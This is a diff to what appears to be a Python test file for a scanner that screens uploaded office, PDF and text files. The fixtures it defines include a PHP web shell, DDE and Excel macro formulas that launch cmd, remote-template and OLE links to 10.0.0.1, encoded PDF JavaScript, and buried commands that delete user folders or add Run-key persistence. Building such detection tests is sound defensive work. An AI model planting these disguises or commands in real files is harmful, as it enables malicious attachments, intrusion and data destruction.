@@ -45,7 +45,7 @@ SCRIPTS = {
     "shebang": b"#!/usr/bin/env python3\nprint(1)\n",
     "reg": b"Windows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n",
     "url": b"[InternetShortcut]\r\nURL=file:///C:/Windows/System32/calc.exe\r\n",
-    "php": "<?php system($_GET['c']); ?>\n".encode(),
+    "php": b"<?php system($_GET['c']); ?>\n",
     "vba": b"Private Sub Document_Open()\r\n  Shell \"calc.exe\"\r\nEnd Sub\r\n",
     "gbk-bat": "@echo off\r\nrem 乡镇统计站自查说明\r\nstart \"\" calc.exe\r\n".encode("gb18030"),
     "utf16-ps1": "Invoke-Expression (Get-Content a.txt)\r\n".encode("utf-16"),
@@ -334,7 +334,7 @@ DISGUISES: dict[str, list[tuple[str, bytes]]] = {
     ],
     "office file that runs or fetches": [
         ("评分表.xlsx", _rezip(REAL_XLSX, {"xl/macrosheets/sheet1.xml": b'<xm:macrosheet xmlns:xm="x"><sheetData><row r="1">'
-                                          b'<c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>'})),  # fmt: skip
+                                          b'<c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>'})),
         ("评分表.xlsx", _rezip(REAL_XLSX, {"xl/intlMacrosheets/sheet1.xml": b"<x/>"})),
         ("总结报告.docx", _rezip(REAL_DOCX, {"word/media/image1.png": VBA_BLOB})),
         ("总结报告.docx", _rezip(REAL_DOCX, {"word/stuff.dat": VBA_BLOB})),
@@ -343,17 +343,17 @@ DISGUISES: dict[str, list[tuple[str, bytes]]] = {
         ("总结报告.docx", _rezip(REAL_DOCX, change={"word/document.xml": _in_body(
             '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r>'
             '<w:r><w:instrText>EAUTO "c:\\\\windows\\\\system32\\\\cmd.exe" "/c calc"</w:instrText></w:r>'
-            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')})),  # fmt: skip
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')})),
         ("评分表.xlsx", _rezip(REAL_XLSX, change={SHEET: _in_sheet("<row r=\"90\"><c r=\"A90\"><f>cmd|' /C calc'!A0</f></c></row>")})),
         ("评分表.et", _rezip(REAL_XLSX, change={SHEET: _in_sheet("<row r=\"90\"><c r=\"A90\"><f>MSEXCEL|&apos;\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc&apos;!&apos;&apos;</f></c></row>")})),
         ("评分表.xlsx", _rezip(REAL_XLSX, change={SHEET: _in_sheet('<row r="90"><c r="A90"><f>WEBSERVICE("http://10.0.0.1/x")</f></c></row>')})),
         ("评分表.xlsx", _rezip(REAL_XLSX, {"xl/externalLinks/externalLink1.xml":
             b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" '
-            b'ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'})),  # fmt: skip
+            b'ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'})),
         ("总结报告.docx", _rezip(REAL_DOCX, {"word/_rels/settings.xml.rels": _rels("attachedTemplate", "http://10.0.0.1/t.dotm")})),
         ("总结报告.docx", _rezip(REAL_DOCX, change={"word/_rels/document.xml.rels": lambda d: d.replace(b"</Relationships>",
             b'<Relationship Id="rId996" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" '
-            b'Target="http://10.0.0.1/index.html!" TargetMode="External"/></Relationships>')})),  # fmt: skip
+            b'Target="http://10.0.0.1/index.html!" TargetMode="External"/></Relationships>')})),
         ("总结报告.docx", _rezip(REAL_DOCX, {"word/_rels/footer9.xml.rels": _rels("image", "file://10.0.0.1/share/x.png")})),
         ("总结报告.docx", _rezip(REAL_DOCX, {"word/_rels/webSettings.xml.rels": _rels("frame", "\\\\10.0.0.1\\x")})),
         ("总结报告.docx", _rezip(REAL_DOCX, {"word/_rels/a.xml.rels": _rels("subDocument", "http://10.0.0.1/s.docx")})),
@@ -364,7 +364,7 @@ DISGUISES: dict[str, list[tuple[str, bytes]]] = {
         ("说明.txt", b"\r\n" * 50 + b"del /f /q C:\\x\r\n"),
         ("说明.txt", "乡镇统计站自查说明。\n".encode() * 300_000 + b"start http://10.0.0.1/a.hta\r\n"),
         ("说明.txt", "乡镇统计站自查说明。\r\n".encode("utf-16") + "第二段。\r\n".encode("utf-16-le") * 2000
-         + "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d calc.exe\r\n".encode("utf-16-le")),  # fmt: skip
+         + "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d calc.exe\r\n".encode("utf-16-le")),
         ("说明.txt", "工作说明\r\n".encode("gb18030") * 500 + b"rd /s /q C:\\Users\r\n"),
         ("说明.txt", "说明\r\n".encode("gb18030") + b"  @echo\r\nstart /b calc\r\n"),
         ("说明.txt", b'Run("calc.exe")\n'), ("说明.txt", b"WEB\r\n1\r\nhttp://10.0.0.1/x.html\r\n"),
@@ -384,7 +384,7 @@ DISGUISES: dict[str, list[tuple[str, bytes]]] = {
         ("评分表.pdf", _pdf_xref_stream(b"/AHx", _ahx(JS_OBJECT))),
         ("评分表.pdf", _pdf_xref_stream(b"[/A85/Fl]", _a85(zlib.compress(JS_OBJECT)))),
         ("评分表.pdf", _pdf_xref_stream(b"/FlateDecode", zlib.compress(_png_up(JS_OBJECT, 8)),
-                                       params=b"/DecodeParms<</Predictor 12/Columns 8>>")),  # fmt: skip
+                                       params=b"/DecodeParms<</Predictor 12/Columns 8>>")),
         ("评分表.pdf", _pdf_stream(b"/ASCIIHexDecode", _ahx(JS_OBJECT), b"/Type/ObjStm/N 1/First 4")),
         ("评分表.pdf", _pdf_stream(b"/ASCII85Decode", _a85(JS_OBJECT), b"/Type/ObjStm/N 1/First 4")),
         ("评分表.pdf", _pdf_stream(b"/RunLengthDecode", _rl(JS_OBJECT), b"/Type/ObjStm/N 1/First 4")),
@@ -403,10 +403,10 @@ DISGUISES: dict[str, list[tuple[str, bytes]]] = {
         ("评分表.pdf", _pdf_stream(b"/FlateDecode", b"\x8f\x11" * 20 + JS_OBJECT.hex().encode())),
         ("评分表.pdf", _pdf_stream(b" 9 0 R", b"x")),
         ("评分表.pdf", _pdf_from([b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>",
-                                 b"<</Type/Annot/Subtype/FileAttachment/FS<</F(a.exe)/EF<</F 5 0 R>>>>>>"])),  # fmt: skip
+                                 b"<</Type/Annot/Subtype/FileAttachment/FS<</F(a.exe)/EF<</F 5 0 R>>>>>>"])),
         ("评分表.pdf", _pdf_from([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>",
                                  b"<</Filter/Standard/V 2/R 3/O<00>/U<00>/P -4>>"])[:-30]
-                        + b"trailer\n<</Size 4/Root 1 0 R/Encrypt 3 0 R>>\nstartxref\n9\n%%EOF\n"),  # fmt: skip
+                        + b"trailer\n<</Size 4/Root 1 0 R/Encrypt 3 0 R>>\nstartxref\n9\n%%EOF\n"),
     ],
     "pdf with active content": [
         ("评分表.pdf", _pdf_with(b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>")),
@@ -453,16 +453,16 @@ def _legit() -> list[tuple[str, bytes]]:
         ("材料.zip", _zip({"各乡镇.zip": _zip(documents), "说明.txt": "见各乡镇材料".encode("gb18030")})),
         ("材料.zip", _deep(3)),  # three archives deep is still inspected
         ("总结报告.docx", _docx_with({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx_bytes(),
-                                      "word/media/image1.png": _png()})),  # fmt: skip
+                                      "word/media/image1.png": _png()})),
         ("总结报告.docx", _rezip(REAL_DOCX, change={"word/document.xml": _in_body(
             '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPERLINK "http://tjj.example.cn/dde" </w:instrText>'
             '</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDE 说明</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/>'
             '</w:r></w:p><w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>')},
-            add={"word/_rels/footer1.xml.rels": _rels("hyperlink", "http://tjj.example.cn/")})),  # fmt: skip
+            add={"word/_rels/footer1.xml.rels": _rels("hyperlink", "http://tjj.example.cn/")})),
         ("评分表.xlsx", _rezip(REAL_XLSX, change={SHEET: _in_sheet(
             '<row r="90"><c r="A90"><f>SUM(B2:B3)</f></c><c r="B90"><f>IF(A90&gt;60,"达标","未达标")</f></c>'
             '<c r="C90"><f>HYPERLINK("http://tjj.example.cn","统计局")</f></c>'
-            '<c r="D90"><f>A1&amp;"x|y"&amp;Sheet1!B1</f></c><c r="E90"><f>TEXTJOIN("|",TRUE,Sheet1!A1:A3)</f></c></row>')})),  # fmt: skip
+            '<c r="D90"><f>A1&amp;"x|y"&amp;Sheet1!B1</f></c><c r="E90"><f>TEXTJOIN("|",TRUE,Sheet1!A1:A3)</f></c></row>')})),
         ("得分.csv", "单位,得分,变化,备注\n乐平镇,91,-3,\n皋落镇,85,+2.5,良好\n东冶头镇,77,-0.5,-\n".encode("gb18030")),
         ("说明.txt", "自查说明：统计台账已建立；from 2024 起按月 import 数据（只是文字）。\nset 好了，if 需要再补。".encode()),
     ]
